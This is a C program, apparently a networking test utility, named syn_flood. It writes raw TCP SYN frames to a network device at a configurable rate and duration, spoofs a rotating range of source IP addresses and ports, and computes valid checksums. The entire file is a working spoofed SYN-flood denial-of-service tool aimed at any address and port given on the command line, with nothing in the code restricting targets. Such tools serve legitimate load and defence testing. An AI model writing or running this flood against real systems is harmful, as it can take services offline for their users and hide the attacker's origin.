/* SPDX-License-Identifier: GPL-2.0-only */
/*
 * syn_flood DEVICE MAC SOURCE SOURCES ADDRESS PORT PER-SECOND MILLISECONDS: send SYNs to ADDRESS:PORT
 * by way of the neighbour MAC, that many a second, from SOURCE and the SOURCES - 1 addresses behind
 * it in turn, each from another port than the time before. Prints how many.
 */
#include <arpa/inet.h>
#include <net/if.h>
#include <netinet/ether.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <linux/if_packet.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <time.h>

struct frame {
	struct ether_header eth;
	struct iphdr ip;
	struct tcphdr tcp;
} __attribute__((packed));

static void die(const char *what)
{
	perror(what);
	exit(1);
}

static uint16_t checksum(uint32_t sum, const void *bytes, size_t count)
{
	const uint8_t *byte = bytes;

	for (size_t i = 0; i < count; i += 2)
		sum += byte[i] << 8 | byte[i + 1];
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return htons(~sum);
}

static void aim(struct frame *frame, uint32_t source, uint16_t port)
{
	frame->ip.saddr = htonl(source);
	frame->ip.check = 0;
	frame->ip.check = checksum(0, &frame->ip, sizeof(frame->ip));
	frame->tcp.source = htons(port);
	frame->tcp.seq = htonl(source * 2654435761u + port);
	frame->tcp.check = 0;
	/* Behind the pseudo header's protocol and length its addresses stand as in the IP header. */
	frame->tcp.check = checksum(IPPROTO_TCP + sizeof(frame->tcp), &frame->ip.saddr,
				    8 + sizeof(frame->tcp));
}

static int64_t now_ns(void)
{
	struct timespec now;

	clock_gettime(CLOCK_MONOTONIC, &now);
	return now.tv_sec * 1000000000LL + now.tv_nsec;
}

static int open_device(const char *device)
{
	struct sockaddr_ll link = {
		.sll_family = AF_PACKET,
		.sll_ifindex = if_nametoindex(device),
	};
	int fd = socket(AF_PACKET, SOCK_RAW, 0);

	if (fd < 0 || !link.sll_ifindex || bind(fd, (struct sockaddr *)&link, sizeof(link)))
		die(device);
	return fd;
}

int main(int argc, char **argv)
{
	struct frame frame = {
		.eth = {.ether_shost = {2}, .ether_type = htons(ETHERTYPE_IP)},
		.ip = {.version = 4,
		       .ihl = 5,
		       .ttl = 64,
		       .protocol = IPPROTO_TCP,
		       .tot_len = htons(sizeof(frame) - sizeof(frame.eth))},
		.tcp = {.doff = 5, .syn = 1, .window = 65535},
	};
	struct timespec pause = {.tv_nsec = 1000000};
	int64_t start_ns, lasts_ns, due;
	uint32_t first, sources;
	long per_second, sent = 0;
	int fd;

	if (argc != 9 || !ether_aton_r(argv[2], (struct ether_addr *)frame.eth.ether_dhost))
		return 2;
	first = ntohl(inet_addr(argv[3]));
	sources = atol(argv[4]);
	frame.ip.daddr = inet_addr(argv[5]);
	frame.tcp.dest = htons(atoi(argv[6]));
	per_second = atol(argv[7]);
	lasts_ns = atol(argv[8]) * 1000000;
	fd = open_device(argv[1]);
	start_ns = now_ns();
	do {
		due = (now_ns() - start_ns) * per_second / 1000000000;
		for (; sent < due; sent++) {
			aim(&frame, first + sent % sources, 1024 + sent / sources % 64000);
			send(fd, &frame, sizeof(frame), 0);
		}
		nanosleep(&pause, NULL);
	} while (now_ns() - start_ns < lasts_ns);
	printf("%ld\n", sent);
	return 0;
}
